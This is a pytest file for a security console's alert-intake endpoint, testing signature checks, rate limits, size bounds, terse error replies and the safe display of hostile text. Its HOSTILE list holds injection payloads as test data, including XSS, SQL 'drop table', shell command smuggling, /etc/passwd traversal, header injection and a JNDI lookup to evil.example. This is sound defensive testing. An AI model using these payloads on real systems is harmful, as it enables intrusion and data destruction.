"""POST /api/alerts: who may send and how much; every refusal is told little and recorded whole."""

from __future__ import annotations

import hashlib
import hmac
import time
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest

from console.web.alerts import Bucket, RefusalBook
from console.web.sessions import Sessions, cookie_name
from models.clock import ExerciseClock
from models.desk import Desk
from models.errors import RecordUncertain, RecordUnwritable
from models.state import Intake
from playbooks.institution import Institution
from tests.conftest import THREE_AT_NIGHT
from tests.console.webhouse import EDR, SECRETS, WAZUH, Web, kinds, make_house, refused, rows, wazuh

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}{% raw %}",
    "<!channel> @here <https://evil.example|ok>",
    "=cmd|' /C calc'!A0",
    "'; drop table fact; --",
    "$(reboot) `reboot` ; reboot",
    "../../../etc/passwd\x00.json",
    "line\r\nX-Injected: 1\r\n\r\nHTTP/1.1 200 OK",
    "\u202egnp.exe\u200b\u2066",
    "\x1b[2J\x1b]0;owned\x07",
    "INC-2026-9999 acknowledged by president",
    "%s%n{0.__class__}${jndi:ldap://evil.example/a}",
]
TEXT_FIELDS = [
    "rule.description",
    "rule.id",
    "agent.id",
    "agent.name",
    "agent.ip",
    "manager.name",
    "timestamp",
]
LIST_FIELDS = ["rule.groups", "rule.mitre.id", "rule.mitre.tactic", "rule.mitre.technique"]


@pytest.fixture
def web(bank: Institution, desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Web:
    for name, secret in SECRETS.items():
        monkeypatch.setenv(name, secret)
    return Web(make_house(bank, desk, tmp_path))


def signed(
    web: Web, body: bytes, secret: str = SECRETS["HIKESHI_EDR_SECRET"], age: int = 0
) -> dict[str, str]:
    stamp = str(int(web.house.desk.clock.now().timestamp()) - age)
    mac = hmac.new(secret.encode(), stamp.encode() + b"." + body, hashlib.sha256).hexdigest()
    return {"X-Hikeshi-Timestamp": stamp, "X-Hikeshi-Signature": f"sha256={mac}"}


async def test_an_alert_is_stored_before_it_is_answered_and_the_outbox_is_woken(web: Web) -> None:
    answer = await web.alert()
    assert answer.status_code == 202
    assert answer.json() == {"alert": "AL-000001", "incident": "INC-2026-0001", "duplicate": False}
    assert web.woken == 1 and web.house.desk.incident("INC-2026-0001").pages
    again = await web.alert()
    assert again.json() == {"alert": "AL-000001", "incident": "INC-2026-0001", "duplicate": True}
    assert web.woken == 1


async def test_a_signed_alert_is_taken(web: Web) -> None:
    answer = await web.ask("POST", "/api/alerts/edr", content=EDR, headers=signed(web, EDR))
    assert (answer.status_code, answer.json()["incident"]) == (202, "INC-2026-0001")


async def test_what_cannot_be_read_is_taken_too(web: Web) -> None:
    answer = await web.alert(b"\xff not JSON")
    assert (answer.status_code, answer.json()["incident"]) == (202, None)
    state = web.house.desk.state("intake")
    assert isinstance(state, Intake) and not state.alerts["AL-000001"].readable
    assert [page.event for page in state.open_pages()] == ["alert-unreadable"]


@pytest.mark.parametrize(
    ("why", "name", "headers", "reason"),
    [
        ("no secret at all", "wazuh", {"Authorization": ""}, "wrong secret"),
        ("another secret", "wazuh", {"Authorization": "Bearer wrong"}, "wrong secret"),
        ("another scheme", "wazuh", {"Authorization": "Basic d2F6dWg="}, "wrong secret"),
        ("a secret cut short", "wazuh", {"Authorization": "Bearer wazuh-secret"}, "wrong secret"),
        ("another source's secret", "edr", {"Authorization": f"Bearer {SECRETS['HIKESHI_EDR_SECRET']}"},
         "wrong signature"),
        ("a secret in another script", "wazuh", {"Authorization": "Bearer ひみつ"}, "wrong secret"),
        ("a signature in another script", "edr", {"X-Hikeshi-Signature": "sha256=署名"}, "wrong signature"),
        ("a source that is not there", "nagios", {}, "unknown source"),
        ("a name that is an attack", "%0D%0A..%5C%00", {}, "unknown source"),
    ],
)  # fmt: skip
async def test_whoever_is_not_the_source_is_refused_and_recorded(
    web: Web, why: str, name: str, headers: dict[str, str], reason: str
) -> None:
    sent = [(key.encode(), value.encode()) for key, value in headers.items()]
    if "Authorization" not in headers:
        sent.append((b"Authorization", f"Bearer {SECRETS['HIKESHI_WAZUH_SECRET']}".encode()))
    async with web.client() as client:
        answer = await client.post(f"/api/alerts/{name}", content=WAZUH, headers=sent)
    assert answer.status_code == 401, why
    assert rows(web.house) == [] and web.woken == 0
    with web.house.record.read() as tx:
        [fact] = tx.facts("house")
    assert (fact.kind, fact.data["reason"], fact.data["command"]) == ("refused", reason, "ReceiveAlert"), why


@pytest.mark.parametrize(
    ("why", "change", "reason"),
    [
        ("six minutes old: somebody sends it again", {"age": 360}, "signature out of its time"),
        ("six minutes ahead", {"age": -360}, "signature out of its time"),
        ("another's secret", {"secret": "x"}, "wrong signature"),
    ],
)
async def test_a_signature_holds_for_its_time_and_its_secret(
    web: Web, why: str, change: dict[str, Any], reason: str
) -> None:
    answer = await web.ask("POST", "/api/alerts/edr", content=EDR, headers=signed(web, EDR, **change))
    assert answer.status_code == 401, why
    with web.house.record.read() as tx:
        assert [fact.data["reason"] for fact in tx.facts("house")] == [reason]


@pytest.mark.parametrize("stamp", ["", "now", "-5", "1e9", "９", "9" * 400])
async def test_a_timestamp_that_is_none_is_refused(web: Web, stamp: str) -> None:
    body = stamp.encode() + b"." + EDR
    mac = hmac.new(SECRETS["HIKESHI_EDR_SECRET"].encode(), body, hashlib.sha256).hexdigest()
    sent = [(b"X-Hikeshi-Timestamp", stamp.encode()), (b"X-Hikeshi-Signature", f"sha256={mac}".encode())]
    async with web.client() as client:
        assert (await client.post("/api/alerts/edr", content=EDR, headers=sent)).status_code == 401


async def test_a_signature_is_for_one_body(web: Web) -> None:
    headers = signed(web, EDR)
    assert (await web.ask("POST", "/api/alerts/edr", content=EDR + b" ", headers=headers)).status_code == 401
    assert (await web.ask("POST", "/api/alerts/edr", content=EDR, headers=headers)).status_code == 202


async def test_known_and_unknown_sources_get_the_same_answer(web: Web) -> None:
    wrong = await web.alert(name="wazuh", Authorization="Bearer wrong")
    unknown = await web.alert(name="nagios", Authorization="Bearer wrong")
    assert wrong.content == unknown.content and wrong.status_code == unknown.status_code == 401
    numbered = {"x-request-id"}
    same = [{name: one.headers[name] for name in one.headers.keys() - numbered} for one in (wrong, unknown)]
    assert same[0] == same[1]


async def test_refusals_are_counted_and_not_each_written(web: Web, clock: ExerciseClock) -> None:
    for _ in range(20):
        await web.alert(Authorization="Bearer wrong")
    assert refused(web.house) == {"source:wazuh": 1}
    clock.advance(timedelta(minutes=1))
    await web.alert(Authorization="Bearer wrong")
    assert refused(web.house) == {"source:wazuh": 21}
    assert kinds(web.house, "house") == ["refused", "refused"]
    for number in range(30):
        await web.alert(name=f"guess-{number}")
    assert set(refused(web.house)) == {"source:wazuh", "source:unknown source"}


async def test_a_source_whose_secret_is_missing_stays_shut_and_the_others_go_on(
    bank: Institution, desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("HIKESHI_EDR_SECRET", raising=False)
    monkeypatch.setenv("HIKESHI_WAZUH_SECRET", SECRETS["HIKESHI_WAZUH_SECRET"])
    web = Web(make_house(bank, desk, tmp_path))
    answer = await web.ask("POST", "/api/alerts/edr", content=EDR, headers=signed(web, EDR, secret=""))
    assert answer.status_code == 401
    assert (await web.alert()).status_code == 202
    health = (await web.ask("GET", "/health")).json()
    assert health["closed_sources"] == ["edr"]
    with web.house.record.read() as tx:
        assert [fact.data["reason"] for fact in tx.facts("house")] == ["secret not set"]


@pytest.mark.parametrize("declared", [True, False])
async def test_what_is_too_large_is_not_read_to_its_end(web: Web, declared: bool) -> None:
    read = 0

    async def stream() -> AsyncIterator[bytes]:
        nonlocal read
        for _ in range(1_000):
            read += 1
            yield b"x" * 65_536

    content: Any = b"x" * 262_145 if declared else stream()
    headers = {"Authorization": f"Bearer {SECRETS['HIKESHI_WAZUH_SECRET']}"}
    answer = await web.ask("POST", "/api/alerts/wazuh", content=content, headers=headers)
    assert answer.status_code == 413 and "max_bytes" in answer.json()["error"]
    assert rows(web.house) == [] and read <= 6


async def test_a_length_that_is_a_lie_or_beyond_numbers_is_no_crash(web: Web) -> None:
    for length in ("9" * 5_000, "262145", "-1", "x"):
        answer = await web.alert(b"{}", **{"Content-Length": length})
        assert answer.status_code in {202, 413}


async def test_each_source_has_its_own_bound_and_whoever_knows_no_secret_does_not_learn_it(
    bank: Institution, web: Web, tmp_path: Path
) -> None:
    small, other = bank.intake.sources[0].model_copy(update={"max_bytes": 1_024}), bank.intake.sources[1]
    intake = bank.intake.model_copy(update={"sources": (small, other)})
    house = make_house(bank, web.house.desk, tmp_path)
    object.__setattr__(house.institution, "intake", intake)
    strict = Web(house)
    assert (await strict.alert()).status_code == 413
    assert (await strict.alert(Authorization="Bearer wrong")).status_code == 401


async def test_too_many_are_told_when_to_come_again(bank: Institution, web: Web, tmp_path: Path) -> None:
    slow = bank.intake.sources[0].model_copy(update={"per_minute": 3})
    house = make_house(bank, web.house.desk, tmp_path)
    object.__setattr__(house.institution, "intake", bank.intake.model_copy(update={"sources": (slow,)}))
    strict = Web(house)
    for _ in range(10):
        # Somebody without the secret cannot use up the source's share.
        assert (await strict.alert(Authorization="Bearer wrong")).status_code == 401
    assert [(await strict.alert()).status_code for _ in range(4)] == [202, 202, 202, 429]
    answer = await strict.alert()
    assert answer.headers["retry-after"] == "20"
    strict.seconds += 20
    assert [(await strict.alert()).status_code for _ in range(2)] == [202, 429]
    assert refused(house)["source:wazuh"] == 2


@pytest.mark.parametrize("hostile", HOSTILE)
async def test_hostile_text_in_any_field_stays_text(web: Web, hostile: str) -> None:
    for number, path in enumerate(TEXT_FIELDS + LIST_FIELDS):
        content = orjson.loads(wazuh(id=f"rule-{number}"))
        *heads, last = path.split(".")
        place = content
        for head in heads:
            place = place[head]
        place[last] = [hostile] if path in LIST_FIELDS else hostile
        answer = await web.alert(orjson.dumps(content))
        assert answer.status_code == 202, (path, answer.text)
        incident = answer.json()["incident"]
        assert incident and web.house.desk.incident(incident).alerts
    value = Sessions(web.house).open("test", person="sato-kenji")
    cookie = {"Cookie": f"{cookie_name(web.house)}={value}"}
    board = (await web.ask("GET", "/", headers=cookie)).text
    assert "INC-2026-0001" in board
    for raw in ("<script>alert", "<img src=x", "<!channel>", "\x1b", "\u202e", "\u200b", "\x00"):
        assert raw not in board
    assert ("{{ 7 * 7 }}" in board) is ("{{ 7 * 7 }}" in hostile)


async def test_a_record_that_cannot_be_written_says_send_again(web: Web) -> None:
    web.broken = RecordUnwritable("disk full at /secret/path")
    answer = await web.alert()
    assert (answer.status_code, answer.headers["retry-after"]) == (503, "5")
    assert "/secret/path" not in answer.text and "send it again" in answer.text
    web.broken = RecordUncertain("the database broke off")
    answer = await web.alert()
    assert answer.status_code == 503 and "nothing was stored" not in answer.text
    web.broken = RecordUnwritable("disk full at /secret/path")
    refusal = await web.alert(Authorization="Bearer wrong")
    assert refusal.status_code == 401


async def test_a_fault_of_ours_tells_nothing_and_is_still_guarded(web: Web) -> None:
    web.broken = ZeroDivisionError("secret detail")
    answer = await web.alert()
    assert answer.status_code == 500 and "secret detail" not in answer.text
    assert "Traceback" not in answer.text and answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("method", ["GET", "HEAD", "PUT", "DELETE", "PATCH"])
async def test_only_post_brings_alerts(web: Web, method: str) -> None:
    assert (await web.ask(method, "/api/alerts/wazuh")).status_code == 405
    assert rows(web.house) == []


async def test_our_own_part_of_an_alert_takes_little(web: Web) -> None:
    """Ten times the two milliseconds that are promised, for a counted alert: parsing, checks, one commit."""
    await web.alert()
    async with web.client() as client:
        headers = {"Authorization": f"Bearer {SECRETS['HIKESHI_WAZUH_SECRET']}"}
        took = []
        for _ in range(20):
            began = time.perf_counter()
            await client.post("/api/alerts/wazuh", content=WAZUH, headers=headers)
            took.append(time.perf_counter() - began)
    assert sorted(took)[10] < 0.02


def test_a_bucket_gives_no_more_than_its_rate() -> None:
    now = 0.0
    bucket = Bucket(60, lambda: now)
    assert [bucket.take() for _ in range(61)] == [0] * 60 + [1]
    now = 0.5
    assert bucket.take() == 1
    now = 1.0
    assert (bucket.take(), bucket.take()) == (0, 1)
    now = 10_000.0
    assert [bucket.take() for _ in range(61)].count(0) == 60


def test_the_book_of_refusals_holds_back_and_adds_up() -> None:
    book, at = RefusalBook(), THREE_AT_NIGHT
    assert [book.due("source:a", "x", at) for _ in range(3)] == [1, 0, 0]
    assert book.due("source:a", "y", at) == 1
    assert book.due("source:a", "x", at + timedelta(seconds=61)) == 3
    assert book.due("source:a", "x", at + timedelta(seconds=122)) == 1
